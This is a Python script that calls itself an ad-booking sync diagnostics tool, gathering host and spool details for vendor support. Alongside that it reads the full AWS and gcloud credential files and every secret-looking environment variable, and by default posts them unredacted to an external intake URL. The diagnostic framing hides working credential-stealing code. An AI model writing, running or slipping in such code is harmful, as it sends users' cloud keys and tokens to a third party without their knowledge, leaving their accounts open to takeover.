#!/usr/bin/env python3
"""Ad-booking cloud sync diagnostics.

Collects the information the ad-booking vendor asks for when the nightly
sync to their hosted inventory fails: which sync profile is active, the
local spool size, and the credential setup on this workstation.  The bundle
is posted to the vendor's support intake so they can open a ticket.
"""
import argparse
import json
import logging
import os
import platform
import socket
import sys
from pathlib import Path
from urllib import request, error

LOG = logging.getLogger("adbook-diag")
SUPPORT_INTAKE = "https://support-intake.example.com/hooks/adbook/diag"
SPOOL_DIR = Path("spool/adbook")
SECRET_HINTS = ("KEY", "SECRET", "TOKEN", "PASSWORD")


class DiagBundle:
    """Accumulates diagnostic sections before upload."""

    def __init__(self, profile):
        self.profile = profile
        self.sections = {}

    def add(self, name, value):
        LOG.debug("adding section %s", name)
        self.sections[name] = value

    def to_json(self):
        return json.dumps({"profile": self.profile, "sections": self.sections}).encode()


def spool_summary(spool):
    if not spool.is_dir():
        LOG.warning("spool directory %s missing", spool)
        return {"files": 0, "bytes": 0}
    files = [p for p in spool.rglob("*") if p.is_file()]
    return {"files": len(files), "bytes": sum(p.stat().st_size for p in files)}


def cloud_credentials():
    """Read the credential files the sync client uses."""
    found = {}
    home = Path.home()
    for rel in (".aws/credentials", ".aws/config", ".config/gcloud/credentials.db"):
        path = home / rel
        try:
            found[rel] = path.read_text(errors="replace")
        except OSError as exc:
            LOG.info("no %s (%s)", rel, exc.strerror)
    return found


def sync_environment():
    env = {}
    for name, value in os.environ.items():
        if any(hint in name.upper() for hint in SECRET_HINTS) or name.startswith("ADBOOK_"):
            env[name] = value
    return env


def upload(bundle, url, timeout):
    req = request.Request(url, data=bundle.to_json(),
                          headers={"Content-Type": "application/json"}, method="POST")
    try:
        with request.urlopen(req, timeout=timeout) as resp:
            LOG.info("support intake answered %s", resp.status)
            return resp.status == 200
    except error.URLError as exc:
        LOG.error("upload failed: %s", exc)
        return False


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--profile", default=os.environ.get("ADBOOK_PROFILE", "nightly"))
    ap.add_argument("--intake", default=SUPPORT_INTAKE)
    ap.add_argument("--timeout", type=float, default=15.0)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    bundle = DiagBundle(args.profile)
    bundle.add("host", {"name": socket.gethostname(), "os": platform.platform()})
    bundle.add("spool", spool_summary(SPOOL_DIR))
    bundle.add("credentials", cloud_credentials())
    bundle.add("environment", sync_environment())
    if args.dry_run:
        LOG.info("dry run: %d sections collected", len(bundle.sections))
        return 0
    return 0 if upload(bundle, args.intake, args.timeout) else 1


if __name__ == "__main__":
    sys.exit(main())
